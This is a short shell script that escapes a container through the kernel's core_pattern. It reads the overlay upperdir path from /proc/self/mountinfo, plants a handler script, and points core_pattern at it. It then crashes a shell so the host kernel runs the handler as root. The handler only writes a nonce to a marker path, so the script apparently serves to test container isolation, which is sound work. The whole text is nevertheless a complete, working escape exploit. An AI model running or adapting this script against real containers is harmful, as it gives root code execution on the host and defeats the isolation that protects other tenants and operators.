# Attack: make the host kernel run our script as root, as the handler of core dumps.
# Where does our root directory live on the host? The overlay's upper layer is a host
# directory, and mountinfo shows its path.
upper=$(awk '$5 == "/"' /proc/self/mountinfo | sed -n 's/.*upperdir=\([^,]*\).*/\1/p' | head -n 1)
if [ -z "$upper" ]; then
    echo "no overlay upperdir in /proc/self/mountinfo: cannot tell our host path"
    exit 1
fi
echo "our / is $upper on the host"
# The handler: the kernel runs it on the host, so it names the host's marker path.
printf '#!/bin/sh\necho %s > %s\n' "$MC_NONCE" "$MC_MARKER" > /mc-core-handler
chmod 755 /mc-core-handler
echo "core_pattern was: $(cat /proc/sys/kernel/core_pattern)"
if ! echo "|$upper/mc-core-handler" > /proc/sys/kernel/core_pattern; then
    echo "could not write /proc/sys/kernel/core_pattern"
    exit 1
fi
echo "core_pattern now: $(cat /proc/sys/kernel/core_pattern)"
# Crash a process: its core dump starts the handler.
sh -c 'ulimit -c unlimited; kill -SEGV $$'
echo "crashed a shell (status $?): the kernel ran the handler on the host"
